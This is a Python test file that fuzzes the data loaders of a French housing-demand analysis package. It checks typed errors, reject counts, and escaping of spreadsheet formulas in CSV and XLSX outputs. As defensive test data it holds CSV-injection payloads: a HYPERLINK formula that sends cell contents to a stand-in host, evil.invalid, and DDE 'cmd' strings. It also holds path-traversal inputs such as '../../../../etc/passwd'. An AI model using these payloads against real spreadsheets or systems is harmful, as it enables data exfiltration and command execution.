"""Fuzzing of the loaders: hostile files end in InputError/UsageError or counted rejects.

Every case either raises one of the two typed errors (clear French message naming
the file) or returns a result whose accounting holds (read = accepted + rejected).
Text that a spreadsheet would run as a formula is escaped in the CSV/XLSX outputs.
"""

from __future__ import annotations

import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from allocation_analysis.errors import InputError, UsageError
from allocation_analysis.io import load_table, read_table
from allocation_analysis.outputs import write_csv, write_xlsx

KEY = bytes.fromhex("11" * 32)
FUZZ = settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

HEADER = (
    "num_unique;date_depot;date_radiation;motif_radiation;nationalite;commune_residence;"
    "qpv_residence;lon;lat;nb_personnes;nb_adultes_sup;nb_enfants_moins_14;revenus_mensuels;"
    "situation_logement;prioritaire;dalo;typologie_demandee;communes_souhaitees;age_demandeur;"
    "situation_professionnelle;handicap"
)
ROWS = [
    "059100001;15/01/2022;;;francaise;59350;;;;3;1;1;1234,56;locataire_prive;non;non;T3;;34;;non",
    "059100002;2023-03-02;;;hors_ue;59009;;;;1;0;0;850;heberge;non;non;T1;;51;;",
    "059100003;01/12/2021;;;ue;59512;;;;4;1;2;2100,5;locataire_social;non;oui;T4;;40;;",
    "059100004;10/10/2020;;;francaise;59512;;;;2;1;0;0;sans_logement;non;non;T2;;29;;oui",
]
VALID = ("\r\n".join([HEADER, *ROWS]) + "\r\n").encode("utf-8")

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def _key(monkeypatch, tmp_path):
    monkeypatch.setenv("ALLOCATION_ANALYSIS_KEY", KEY.hex())
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "cfg"))


def _load(path: Path):
    """Load ``path`` as demandes; return the result or None for a typed error."""
    try:
        res = load_table(path, "demandes", key=KEY)
    except (InputError, UsageError) as exc:
        assert str(exc).strip()
        return None
    assert res.n_read == res.n_accepted + res.n_rejected
    assert len(res.data) == res.n_accepted
    assert "num_unique" not in res.data.columns
    return res


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    p = tmp_path / name
    p.write_bytes(data)
    return p


@FUZZ
@given(
    data=st.binary(max_size=4096),
    suffix=st.sampled_from([".csv", ".txt", ".tsv", ".xlsx", ".parquet", ".dat", ""]),
)
def test_random_bytes_never_escape_the_typed_errors(tmp_path, data, suffix):
    p = _write(tmp_path, f"f{suffix}", data)
    try:
        df, info = read_table(p)
    except (InputError, UsageError):
        pass
    else:
        assert isinstance(df, pd.DataFrame)
    _load(p)


@FUZZ
@given(cut=st.integers(0, len(VALID)))
def test_truncated_file_is_an_error_or_counted(tmp_path, cut):
    res = _load(_write(tmp_path, "d.csv", VALID[:cut]))
    if res is not None:
        # Read rows are the data lines present, complete or not (the header is whole).
        body = VALID[:cut].decode("utf-8").split("\r\n")[1:]
        assert res.n_read == sum(1 for line in body if line.strip())


@FUZZ
@given(
    pos=st.integers(0, len(VALID) - 1),
    insert=st.binary(min_size=1, max_size=16),
    drop=st.integers(0, 8),
)
def test_mutated_file_is_an_error_or_counted(tmp_path, pos, insert, drop):
    _load(_write(tmp_path, "d.csv", VALID[:pos] + insert + VALID[pos + drop :]))


@FUZZ
@given(enc=st.sampled_from(["utf-16", "utf-32", "cp1252", "latin-1", "utf-8-sig", "cp850"]))
def test_other_encodings_are_read_or_refused(tmp_path, enc):
    text = "\r\n".join([HEADER, *ROWS]).replace("francaise", "française") + "\r\n"
    try:
        data = text.encode(enc)
    except UnicodeEncodeError:
        return
    _load(_write(tmp_path, "d.csv", data))


def test_mixed_encodings_are_refused_not_guessed(tmp_path):
    data = (
        VALID
        + "059100009;01/01/2022;;;française;59350;;;;1;0;0;1;heberge;non;non;T1;;30;;\r\n".encode(
            "cp1252"
        )
        + "059100010;01/01/2022;;;française;59350;;;;1;0;0;1;heberge;non;non;T1;;30;;\r\n".encode()
    )
    with pytest.raises(InputError):
        load_table(_write(tmp_path, "d.csv", data), "demandes", key=KEY)


@pytest.mark.parametrize("column", [0, 4, 12, 17])
def test_a_ten_megabyte_field_is_a_counted_reject_or_error(tmp_path, column):
    fields = ROWS[0].split(";")
    fields[column] = "9" * 10_000_000
    data = ("\r\n".join([HEADER, *ROWS, ";".join(fields)]) + "\r\n").encode()
    res = _load(_write(tmp_path, "d.csv", data))
    if res is not None:
        assert res.n_read == 5
        assert res.n_rejected >= 1 if column != 0 else True
        # A huge value is never echoed in full into the rejects.
        assert res.rejects["value"].astype(str).str.len().max() < 1_000_000


def test_formula_strings_are_rejected_and_escaped_in_outputs(tmp_path):
    # 100 valid rows, so that 4 unknown values stay under the 5 % tolerance.
    rows = [ROWS[i % 4].replace("0591000", f"059{i:04d}", 1) for i in range(100)]
    for i, f in enumerate(FORMULAS[:4]):
        fields = rows[i].split(";")
        fields[4] = f  # nationalite: an enumeration, so a reject with the value shown
        fields[17] = f  # communes_souhaitees: free text
        rows[i] = ";".join(fields)
    data = ("\r\n".join([HEADER, *rows]) + "\r\n").encode("utf-8")
    res = _load(_write(tmp_path, "d.csv", data))
    assert res is not None and res.n_rejected == 4
    rej = res.rejects
    csv_path = write_csv(rej, tmp_path / "rejects.csv")
    back = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    for col in back.columns:
        assert not back[col].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), col
    xlsx = write_xlsx({"rejets": rej, "f": pd.DataFrame({"t": FORMULAS})}, tmp_path / "t.xlsx")
    with zipfile.ZipFile(xlsx) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s for s in sheets)  # no formula element anywhere
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize(
    "name", ["../../../../etc/passwd", "/proc/self/mem", ".", "/nonexistent/../x"]
)
def test_hostile_input_paths_are_input_errors(name):
    # Reading what the user names is allowed; what is not a demandes table is refused.
    with pytest.raises((InputError, UsageError)):
        load_table(Path(name), "demandes", key=KEY)


def test_unknown_table_name_is_a_usage_error(tmp_path):
    p = _write(tmp_path, "d.csv", VALID)
    with pytest.raises((InputError, UsageError)):
        load_table(p, "../demandes", key=KEY)


_HARNESS = textwrap.dedent(
    """
    import os, sys, tempfile
    import atheris
    import numpy, pandas, pyarrow  # noqa: F401 - imported first, not instrumented
    with atheris.instrument_imports(include=["allocation_analysis"]):
        from allocation_analysis.errors import InputError, UsageError
        from allocation_analysis.io import load_table
    KEY = bytes(32)
    d = tempfile.mkdtemp()
    SUFFIXES = [".csv", ".xlsx", ".parquet", ""]

    def one(data: bytes) -> None:
        if not data:
            return
        path = os.path.join(d, "f" + SUFFIXES[data[0] % len(SUFFIXES)])
        with open(path, "wb") as fh:
            fh.write(data[1:])
        try:
            res = load_table(path, "demandes", key=KEY)
        except (InputError, UsageError):
            return
        assert res.n_read == res.n_accepted + res.n_rejected

    atheris.Setup(sys.argv, one)
    atheris.Fuzz()
    """
)


@pytest.mark.slow
def test_atheris_finds_no_crash_in_load_table(tmp_path):
    pytest.importorskip("atheris", reason="atheris is not installed")
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "valid").write_bytes(b"\x00" + VALID)
    (corpus / "header").write_bytes(b"\x00" + HEADER.encode() + b"\r\n")
    harness = tmp_path / "harness.py"
    harness.write_text(_HARNESS)
    proc = subprocess.run(
        [sys.executable, str(harness), "-runs=600", "-max_len=2048", "-seed=1", str(corpus)],
        capture_output=True,
        text=True,
        timeout=600,
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr[-4000:]
